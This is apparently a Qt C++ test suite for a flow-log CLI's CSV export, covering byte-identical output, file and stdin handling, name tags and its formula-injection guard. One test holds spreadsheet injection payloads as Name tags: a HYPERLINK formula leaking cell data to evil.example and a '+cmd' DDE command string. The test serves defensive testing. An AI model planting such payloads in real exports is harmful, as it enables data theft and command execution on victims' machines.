// flowlog-cli export end to end: CSV to stdout and to files (atomic, same bytes as the library
// writes), the formula guard, stdin input, --with-names and filters by name. Helpers:
// tests/clitestutil.h.
#include "core/export/csv.h"
#include "core/ingest/loader.h"
#include "core/names/names.h"
#include "core/store/store.h"
#include <QBuffer>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include "tests/clitestutil.h"
#include "tests/testpaths.h"

using namespace clitest;

class TestCliExport : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { QVERIFY2(QFile::exists(testpaths::cliPath()), qPrintable(testpaths::cliPath())); }

    void exportStdoutEqualsKnownCsv()
    {
        const Run r = runCli(tcpExportArgs() << fixture(QStringLiteral("tgw.log")));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(r.out, readAll(fixture(QStringLiteral("expected_tcp_by_bytes.csv"))));
    }

    void exportSameBytesAsLibrary_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("filter");
        QTest::addColumn<QStringList>("columns");
        QTest::addColumn<QStringList>("sort");
        QTest::addColumn<bool>("guard");
        QTest::newRow("defaults") << QStringList{} << "" << QStringList{} << QStringList{} << true;
        QTest::newRow("filter sort columns")
            << QStringList{"--filter",  "addr == 10.0.0.0/8 or drops",
                           "--sort",    "dstport:desc",
                           "--sort",    "start",
                           "--columns", "start,srcaddr,dstport,bytes,packets_lost_blackhole"}
            << "addr == 10.0.0.0/8 or drops" << QStringList{"start", "srcaddr", "dstport", "bytes", "packets_lost_blackhole"}
            << QStringList{"dstport:desc", "start"} << true;
        QTest::newRow("no guard") << QStringList{"--no-formula-guard"} << "" << QStringList{} << QStringList{} << false;
    }

    void exportSameBytesAsLibrary()
    {
        // The GUI exports through core::exportCsv; the CLI must produce the very same bytes.
        QFETCH(QStringList, args);
        QFETCH(QString, filter);
        QFETCH(QStringList, columns);
        QFETCH(QStringList, sort);
        QFETCH(bool, guard);
        const QStringList files = {fixture(QStringLiteral("tgw.log")), fixture(QStringLiteral("tgw_bad_lines.log"))};
        const Run r = runCli(QStringList{QStringLiteral("export")} + args + files);
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));

        auto store = core::Store::create();
        QVERIFY(store.ok());
        core::loadPaths(*store.value(), files, core::LoadOptions{});
        core::ExportRequest request;
        request.filter = filter;
        request.columns = columns;
        for (const QString& s : sort) request.sort.push_back(core::parseSortKey(s).value());
        request.csv.guardFormulas = guard;
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        QCOMPARE(core::exportCsv(*store.value(), request, buffer), core::Outcome::Ok);
        QVERIFY(buffer.data().count("\r\n") > 1);
        QCOMPARE(r.out, buffer.data());
    }

    void exportToFile()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString path = dir.filePath(QStringLiteral("out.csv"));
        const Run r = runCli(tcpExportArgs() << QStringLiteral("-o") << path << fixture(QStringLiteral("tgw.log")));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY(r.out.isEmpty());
        QCOMPARE(readAll(path), readAll(fixture(QStringLiteral("expected_tcp_by_bytes.csv"))));
    }

    void exportToUnwritablePath()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString path = dir.filePath(QStringLiteral("no/such/dir/out.csv"));
        const Run r = runCli(tcpExportArgs() << QStringLiteral("-o") << path << fixture(QStringLiteral("tgw.log")));
        QCOMPARE(r.exitCode, 1);
        QVERIFY2(r.err.contains(path), qPrintable(r.err));
    }

    void exportNoFormulaGuard()
    {
        const Run r = runCli({QStringLiteral("export"), QStringLiteral("--columns"), QStringLiteral("pkt_src_aws_service"),
                              QStringLiteral("--filter"), QStringLiteral("pkt_src_aws_service"),
                              QStringLiteral("--no-formula-guard"), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(r.out, QByteArray("pkt_src_aws_service\r\n=1+1\r\n"));
    }

    void exportFromStdin()
    {
        const Run r = runCli(tcpExportArgs() << QStringLiteral("-"), readAll(fixture(QStringLiteral("tgw.log"))));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(r.out, readAll(fixture(QStringLiteral("expected_tcp_by_bytes.csv"))));
    }

    void exportWithNames()
    {
        const Run r =
            runCli({QStringLiteral("export"), QStringLiteral("--names"), fixture(QStringLiteral("names-attachments.json")),
                    QStringLiteral("--with-names"), QStringLiteral("--columns"),
                    QStringLiteral("tgw-attachment-id,tgw_pair_attachment_id,srcaddr,bytes"), QStringLiteral("--filter"),
                    QStringLiteral("attachment == \"VPC A\""), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY2(r.err.isEmpty(), qPrintable(r.err));
        QCOMPARE(r.out, QByteArray("tgw_attachment_id,tgw_attachment_id_name,tgw_pair_attachment_id,tgw_pair_attachment_id_name,"
                                   "srcaddr,bytes\r\n"
                                   "tgw-attach-aaa,VPC A,tgw-attach-bbb,\"on-prem, VPN\",10.0.1.5,1000\r\n"
                                   "tgw-attach-bbb,\"on-prem, VPN\",tgw-attach-aaa,VPC A,10.0.1.5,1000\r\n"
                                   "tgw-attach-aaa,VPC A,,,10.0.1.6,300\r\n"));
        // Without --with-names the ids are exported as before.
        const Run plain =
            runCli({QStringLiteral("export"), QStringLiteral("--names"), fixture(QStringLiteral("names-attachments.json")),
                    QStringLiteral("--columns"), QStringLiteral("tgw-attachment-id,bytes"), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(plain.exitCode == 0, qPrintable(plain.err));
        QVERIFY(plain.out.startsWith("tgw_attachment_id,bytes\r\ntgw-attach-aaa,1000\r\n"));
    }

    void exportWithNamesSameBytesAsLibrary_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("filter");
        QTest::addColumn<QString>("sort");
        QTest::addColumn<bool>("guard");
        QTest::newRow("all columns") << QStringList{} << ""
                                     << "" << true;
        QTest::newRow("by name, sorted, no guard")
            << QStringList{"--filter", "attachment != \"on-prem, VPN\"", "--sort", "bytes:desc", "--no-formula-guard"}
            << "attachment != \"on-prem, VPN\""
            << "bytes:desc" << false;
    }

    void exportWithNamesSameBytesAsLibrary()
    {
        // The GUI exports through core::exportCsv with withNames; the CLI must give the same bytes.
        QFETCH(QStringList, args);
        QFETCH(QString, filter);
        QFETCH(QString, sort);
        QFETCH(bool, guard);
        const QString names = fixture(QStringLiteral("names-attachments.json"));
        const QString log = fixture(QStringLiteral("tgw.log"));
        const Run r =
            runCli(QStringList{QStringLiteral("export"), QStringLiteral("--with-names"), QStringLiteral("--names"), names} + args
                   + QStringList{log});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));

        auto store = core::Store::create();
        QVERIFY(store.ok());
        QCOMPARE(core::loadPaths(*store.value(), {log}, core::LoadOptions{}).records, 5LL);
        core::NameDirectory dir;
        QVERIFY(core::loadNamesFile(names, dir).ok());
        QVERIFY(core::storeNames(*store.value(), dir).ok());
        core::ExportRequest request;
        request.filter = filter;
        if (!sort.isEmpty()) request.sort.push_back(core::parseSortKey(sort).value());
        request.csv.guardFormulas = guard;
        request.withNames = true;
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        QCOMPARE(core::exportCsv(*store.value(), request, buffer), core::Outcome::Ok);
        QVERIFY(buffer.data().contains("VPC A"));
        QCOMPARE(r.out, buffer.data());
    }

    void exportWithNamesGuardsFormulas_data()
    {
        QTest::addColumn<bool>("guard");
        QTest::addColumn<QByteArray>("cell");
        QTest::newRow("guarded") << true << QByteArray("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
        QTest::newRow("--no-formula-guard") << false
                                            << QByteArray("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
    }

    void exportWithNamesGuardsFormulas()
    {
        // A Name tag is text anyone with ec2:CreateTags can set: it must not run in a spreadsheet.
        QFETCH(bool, guard);
        QFETCH(QByteArray, cell);
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString names = dir.filePath(QStringLiteral("describe-vpcs.json"));
        QFile f(names);
        QVERIFY(f.open(QIODevice::WriteOnly));
        auto vpc = [](const char* id, const char* name) {
            return QJsonObject{{QStringLiteral("VpcId"), QLatin1String(id)},
                               {QStringLiteral("Tags"), QJsonArray{QJsonObject{{QStringLiteral("Key"), QStringLiteral("Name")},
                                                                               {QStringLiteral("Value"), QLatin1String(name)}}}}};
        };
        const QJsonObject root{
            {QStringLiteral("Vpcs"), QJsonArray{vpc("vpc-0aaa", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
                                                vpc("vpc-0bbb", "+cmd|' /C calc'!A0")}}};
        f.write(QJsonDocument(root).toJson());
        f.close();
        QStringList args{QStringLiteral("export"),    QStringLiteral("--with-names"),
                         QStringLiteral("--names"),   names,
                         QStringLiteral("--columns"), QStringLiteral("tgw_src_vpc_id,tgw_dst_vpc_id"),
                         QStringLiteral("--filter"),  QStringLiteral("bytes == 1000 and flow-direction == ingress")};
        if (!guard) args << QStringLiteral("--no-formula-guard");
        const Run r = runCli(args << fixture(QStringLiteral("tgw.log")));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const QByteArray second = guard ? QByteArray("'+cmd|' /C calc'!A0") : QByteArray("+cmd|' /C calc'!A0");
        QCOMPARE(r.out, "tgw_src_vpc_id,tgw_src_vpc_id_name,tgw_dst_vpc_id,tgw_dst_vpc_id_name\r\nvpc-0aaa," + cell + ",vpc-0bbb,"
                            + second + "\r\n");
    }

    void exportWithNamesButNoNames_data()
    {
        QTest::addColumn<QStringList>("namesArgs");
        QTest::newRow("no --names") << QStringList{};
        QTest::newRow("names JSON without Name tags")
            << QStringList{"--names", testpaths::testData() + QStringLiteral("/names/describe-flow-logs.json")};
    }

    void exportWithNamesButNoNames()
    {
        // Still exported (stable header, empty name columns), with a clear warning on stderr.
        QFETCH(QStringList, namesArgs);
        const Run r = runCli(QStringList{QStringLiteral("export"), QStringLiteral("--with-names"), QStringLiteral("--columns"),
                                         QStringLiteral("tgw_attachment_id,bytes"), QStringLiteral("--filter"),
                                         QStringLiteral("bytes == 300")}
                             + namesArgs + QStringList{fixture(QStringLiteral("tgw.log"))});
        QCOMPARE(r.exitCode, 0);
        QCOMPARE(r.out, QByteArray("tgw_attachment_id,tgw_attachment_id_name,bytes\r\ntgw-attach-aaa,,300\r\n"));
        QVERIFY2(r.err.contains(QLatin1String("--with-names: no Name tags are loaded")), qPrintable(r.err));
        QVERIFY2(r.err.contains(QLatin1String("--names FILE")), qPrintable(r.err));
    }

    void withNamesIsForExportOnly_data()
    {
        QTest::addColumn<QString>("command");
        QTest::newRow("edges") << "edges";
        QTest::newRow("query") << "query";
        QTest::newRow("summary") << "summary";
        QTest::newRow("series") << "series";
    }

    void withNamesIsForExportOnly()
    {
        QFETCH(QString, command);
        const Run r = runCli({command, QStringLiteral("--with-names"), QStringLiteral("--sql"), QStringLiteral("SELECT 1"),
                              fixture(QStringLiteral("tgw.log"))});
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(QStringLiteral("option --with-names does not apply to '%1'").arg(command)), qPrintable(r.err));
    }

    void filterByName_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QString>("filter");
        QTest::addColumn<bool>("withNames");
        QTest::addColumn<QByteArray>("expected");
        QTest::newRow("export by name") << "export"
                                        << "attachment == \"on-prem, VPN\"" << true
                                        << QByteArray("tgw_attachment_id\r\ntgw-attach-aaa\r\ntgw-attach-bbb\r\n");
        QTest::newRow("export by name, no names: nothing")
            << "export"
            << "attachment == \"on-prem, VPN\"" << false << QByteArray("tgw_attachment_id\r\n");
        QTest::newRow("export in names") << "export"
                                         << "tgw-attachment-id in {\"VPC A\", tgw-attach-eee}" << true
                                         << QByteArray(
                                                "tgw_attachment_id\r\ntgw-attach-aaa\r\ntgw-attach-aaa\r\ntgw-attach-eee\r\n");
        QTest::newRow("edges by name") << "edges"
                                       << "attachment == \"VPC A\"" << true
                                       << QByteArray(
                                              "tgw-attach-aaa,tgw-attach-bbb,1,10,1000,0,0,0,0,VPC A,\"on-prem, VPN\"\r\n");
    }

    void filterByName()
    {
        QFETCH(QString, command);
        QFETCH(QString, filter);
        QFETCH(bool, withNames);
        QFETCH(QByteArray, expected);
        QStringList args{command, QStringLiteral("--filter"), filter};
        if (command == QLatin1String("export")) args << QStringLiteral("--columns") << QStringLiteral("tgw_attachment_id");
        if (withNames) args << QStringLiteral("--names") << fixture(QStringLiteral("names-attachments.json"));
        const Run r = runCli(args << fixture(QStringLiteral("tgw.log")));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        if (command == QLatin1String("export")) QCOMPARE(r.out, expected);
        else QVERIFY2(r.out.contains(expected), r.out.constData());
    }
};

QTEST_GUILESS_MAIN(TestCliExport)
#include "tst_cli_export.moc"
